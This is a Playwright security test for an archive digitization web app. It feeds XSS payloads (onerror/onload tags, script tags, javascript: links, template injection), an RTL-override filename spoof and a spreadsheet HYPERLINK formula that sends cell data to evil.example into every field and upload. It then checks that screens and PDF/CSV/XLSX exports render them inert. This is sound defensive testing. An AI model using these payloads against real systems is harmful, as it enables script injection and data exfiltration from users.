/** Names and texts that mean harm, on every screen and paper they reach: shown as they are, never followed, never too wide. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { readXlsx } from 'hucre';
import sharp from 'sharp';
import { fill } from './filled.ts';
import { watchPolicy } from './page.ts';
import { SETTINGS, serve, station, workplace } from './station.ts';

/** By this part a text of `harm` is found again. */
const mark = (where: string) => `<img src=x onerror=alert('${where}')>`;
/** What shows a dialog, makes an element or fills in a value wherever it is taken for more than text. */
const harm = (where: string) =>
  `${mark(where)} "><svg onload=alert(2)><script>alert(3)</script> javascript:alert(5)
  {{constructor.constructor("alert(4)")()}} {count} $t(home.title) &lt;b&gt;`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")';
/** Text turned round, letters without width, a bell and an escape. */
const INVISIBLE = 'a\u202Egpj.exe\u202C\u2066b\u200B\u2060\uFEFFc\u0007\u001B[31m';
const LONG = 'rấtdài'.repeat(60);
const ALL = (where: string) => `${harm(where)} ${INVISIBLE} ${LONG}`;

/** Screens, and whose harm has to be seen on each. `BATCH` was worked on, `NAMES` came in under hostile names. */
const SCREENS: [string, string[]][] = [
  ['/', ['title']],
  ['/intake', []],
  ['NAMES', ['title', 'tệp', 'hỏng', 'chữ']],
  ['NAMES/pages', ['title']],
  ['BATCH', ['giver', 'taker', 'paper']],
  ['BATCH/pages', ['comment', 'note']],
  ['BATCH/text', ['text', 'note']],
  ['BATCH/describe', ['subject', 'organName', 'codeNotation', 'note', 'remark']],
  ['BATCH/splits', []],
  ['BATCH/register', []],
  ['BATCH/review', ['mai', 'note', 'hold']],
  ['BATCH/sample', ['mai']],
  ['/review', ['hold']],
  ['/deliver', ['title', 'destination']],
  ['/lists', ['kê']],
  ['/search?q=onerror', ['text']],
  ['/reports', ['lan']],
  ['/history', ['lan']],
  ['/settings', ['lan', 'mai']],
  ['/help', []],
  ['/about', []],
];

test('names and texts that mean harm are shown as text on every screen and paper', async ({ page }) => {
  test.slow();
  const { archive, batch } = await fill(4);
  const named = await scanHostileNames(archive);
  mkdirSync(join(archive, 'destinations'), { recursive: true });
  const bad = { to: 'folder:/tmp', [harm('destination')]: [FORMULA] };
  writeFileSync(join(archive, 'destinations', 'hại.json'), JSON.stringify(bad));
  const door = await serve(['serve', '--archive', archive]);
  const { origin } = new URL(door.json.url);
  const refused = watchPolicy(page);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (!/^(data|blob):/.test(request.url()) && new URL(request.url()).origin !== origin)
      elsewhere.push(request.url());
  });
  await page.setViewportSize({ width: 1366, height: 768 });
  await page.goto(door.json.url);
  const send = async (method: string, path: string, data?: unknown) => {
    const headers = { Origin: origin };
    const answer = await page.request.fetch(`${origin}/api${path}`, { method, data, headers, maxRetries: 3 });
    expect([path, answer.status(), answer.ok() ? '' : await answer.text()]).toEqual([
      path,
      answer.status(),
      '',
    ]);
    return answer.json();
  };
  const roles = ['clerk', 'indexer', 'supervisor', 'administrator'];

  await test.step('whoever works gives every kind of text one that means harm', async () => {
    await send('POST', '/session/first', {
      ...{ user: 'lan', name: `${mark('lan')} ${INVISIBLE}`, roles, password: 'mot con meo den' },
    });
    await send('POST', '/accounts', {
      ...{ user: 'mai', name: `${mark('mai')} javascript:alert(5)`, roles, password: 'hai con meo vang' },
    });
    const [{ id: document, pages }] = (await send('GET', `/batches/${batch}/documents`)).documents;
    const opened = await send('GET', `/pages/${pages[0]}`);
    const was = opened.lines[0].words.map((word: { text: string }) => word.text).join(' ');
    await send('PUT', `/pages/${pages[0]}/lines/0`, { was, text: ALL('text') });
    for (const name of ['subject', 'organName', 'codeNotation', 'signer'])
      await send('PUT', `/documents/${document}/fields/${name}`, {
        ...{ value: ALL(name), state: name === 'organName' ? 'draft' : 'confirmed' },
      });
    await send('PUT', `/documents/${document}/fields/keyword`, { value: FORMULA, state: 'confirmed' });
    await send('POST', `/batches/${batch}/comments`, { pageId: pages[0], text: ALL('comment') });
    const about = { documentId: document, field: 'subject' };
    await send('POST', `/batches/${batch}/comments`, { ...about, text: ALL('remark') });
    await send('PUT', `/batches/${batch}/handover`, {
      minutes: {
        giver: mark('giver'),
        giverPost: INVISIBLE,
        taker: mark('taker'),
        takerPost: FORMULA,
        remark: ALL('paper'),
      },
      day: '2026-03-05',
      version: 0,
    });
    await send('POST', `/batches/${batch}/check`, {});
  });

  await test.step('another person finds a sampled document wrong, with a note that means harm', async () => {
    await send('POST', '/session', { user: 'mai', password: 'hai con meo vang' });
    const next = 'ba con meo trang';
    await send('PUT', '/session/password', { current: 'hai con meo vang', next });
    const [{ pages }] = (await send('GET', `/batches/${batch}/documents`)).documents;
    const { sample } = await send('POST', `/batches/${batch}/samples`, { kind: 'percent', percent: 100 });
    const defect = { code: 'field-wrong', pageId: pages[0], field: 'subject', note: ALL('note') };
    await send('PUT', `/samples/${sample.id}/items/0`, { defects: [defect] });
    await send('POST', `/samples/${sample.id}/decision`, { to: 'described' });
    const record = await (await page.request.get(`${origin}/api/samples/${sample.id}/protocol`)).body();
    expect(paperText(record)).toContain(mark('mai'));
    await send('PUT', `/batches/${batch}/hold`, { reason: ALL('hold') });
  });

  const faults: string[] = [];
  for (const [place, wanted] of SCREENS) {
    await page.goto(
      origin + place.replace('BATCH', `/batches/${batch}`).replace('NAMES', `/batches/${named}`),
    );
    await expect(page.getByRole('heading').first()).toBeVisible();
    await page.evaluate(unfold);
    if (place === '/lists') await importHostileList(page);
    if (place === '/settings') await page.getByRole('tab', { name: 'Tài khoản' }).click();
    if (place === 'BATCH/describe') {
      await page.locator('[data-field=subject]').focus();
      await page.keyboard.press('F8');
    }
    for (const where of wanted)
      await expect
        .poll(
          async () => {
            await page.evaluate(unfold);
            return (await page.evaluate(textOnScreen)).includes(mark(where));
          },
          { timeout: 8000 },
        )
        .toBe(true)
        .catch(() => faults.push(`${place}: the text of ${where} is not to be seen`));
    faults.push(...(await page.evaluate(strangeOnScreen)).map((fault) => `${place}: ${fault}`));
  }
  await test.step('papers and tables hold it as text too, and no cell is a formula', async () => {
    const bytes = async (path: string) => (await page.request.get(`${origin}/api${path}`)).body();
    expect(paperText(await bytes(`/batches/${batch}/handover.pdf`))).toContain(mark('giver'));
    const today = new Date().toISOString().slice(0, 10);
    paperText(await bytes(`/figures/paper?from=${today}&to=${today}`));
    for (const path of [
      '/reconciliation.csv',
      '/history/export?format=csv',
      `/batches/${batch}/export?format=csv`,
    ])
      expect([path, (await bytes(path)).toString().match(/(^|[,\n])"?[=@+-].{20}/)?.[0]]).toEqual([
        path,
        undefined,
      ]);
    const workbook = await readXlsx(await bytes(`/batches/${batch}/export?format=xlsx`));
    const cells = workbook.sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])]);
    expect(workbook.sheets.flatMap((sheet) => sheet.rows.flat())).toContain(FORMULA);
    expect(cells.filter((cell) => cell.formula !== undefined)).toEqual([]);
  });
  expect(faults).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(refused).toEqual([]);
  expect(elsewhere).toEqual([]);
  await door.stop();
});

/** Takes in files whose names mean harm: scans, one that is none, one that is to be ignored, the same one twice. */
async function scanHostileNames(archive: string): Promise<string> {
  const { scans } = workplace();
  const names = [
    `${mark('tệp')}.jpg`,
    `"'\` {{x}} $t(home.title) &lt;b&gt; javascript:alert(5).jpg`,
    '\u202Egpj.exe\u202C \u2066b.jpg',
    '=1+1;@SUM(A1).jpg',
    `${'rất-dài'.repeat(20)}.jpg`,
  ];
  for (const [n, name] of names.entries()) {
    const canvas = { width: 300, height: 420 + (n % 4), channels: 3 as const, background: '#fff' };
    writeFileSync(join(scans, name), await sharp({ create: canvas }).jpeg().toBuffer());
  }
  writeFileSync(join(scans, `${mark('hỏng')}.jpg`), 'not a scan');
  writeFileSync(join(scans, `${mark('chữ')}.txt`), 'no scan either');
  const settings = SETTINGS.map((text) => (text.startsWith('title=') ? `title=${ALL('title')}` : text));
  const run = await station(['digitize', scans, '--archive', archive, ...settings, '--json']);
  expect(run.code).toBe(3);
  return run.json.batch;
}

/** Tries an inventory and a list of codes whose every cell means harm, then takes the inventory in. */
async function importHostileList(page: Page): Promise<void> {
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = [
    ['Hồ sơ số', 'Tiêu đề', 'Số tờ'],
    [FORMULA, ALL('title'), '35'],
    [mark('kê'), INVISIBLE, mark('kê')],
  ];
  await page.locator('input[type=file]').setInputFiles({
    name: `${mark('kê').replaceAll('/', '')}.csv`,
    mimeType: 'text/csv',
    buffer: Buffer.from(rows.map((row) => row.map(cell).join(',')).join('\r\n')),
  });
  await expect(page.getByRole('status').getByText('Nếu nhập:')).toBeVisible();
  await page.getByRole('button', { name: /^Nhập \d+ dòng/ }).click();
  await expect(page.getByText('Đã nhập:')).toBeVisible();
}

/** Opens what is folded, also what was drawn a moment ago. */
function unfold(): void {
  for (const folded of document.querySelectorAll('details')) folded.open = true;
}

/** What can be read on the screen, values of fields among it. */
function textOnScreen(): string {
  const values = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
    ({ value }) => value,
  );
  const names = [...document.querySelectorAll('[aria-label], [title], [alt]')].flatMap((one) =>
    ['aria-label', 'title', 'alt'].map((name) => one.getAttribute(name) ?? ''),
  );
  return [document.body.innerText, ...values, ...names].join('\n').replaceAll(/\s+/g, ' ');
}

/** Elements that a text made, links that run something, text that is turned round, and what is wider than the window. */
function strangeOnScreen(): string[] {
  const found: string[] = [];
  const made = 'img[src="x"], [onerror], [onload], main script, iframe, object, a[href^="javascript:" i]';
  for (const one of document.querySelectorAll(made)) found.push(`made ${one.outerHTML.slice(0, 100)}`);
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let text = texts.nextNode(); text; text = texts.nextNode())
    if (/[\u202A-\u202E\u2066-\u2069]/.test(text.textContent ?? ''))
      found.push(`turned round: ${text.textContent?.slice(0, 60)}`);
  const over = document.documentElement.scrollWidth - innerWidth;
  if (over > 0) found.push(`${over} px wider than the window`);
  const page = document.querySelector('main section[tabindex="0"]');
  if (page && page.scrollWidth > page.clientWidth)
    found.push(`${page.scrollWidth - page.clientWidth} px wider than its page`);
  return found;
}

/** The text of a paper, which does nothing when it is opened. */
function paperText(pdf: Buffer): string {
  expect(pdf.toString('latin1')).not.toMatch(/\/(JS|JavaScript|OpenAction|Launch|URI|SubmitForm)\b/);
  return execFileSync('pdftotext', ['-raw', '-', '-'], { input: pdf, encoding: 'utf8' }).replaceAll(
    /\s+/g,
    ' ',
  );
}
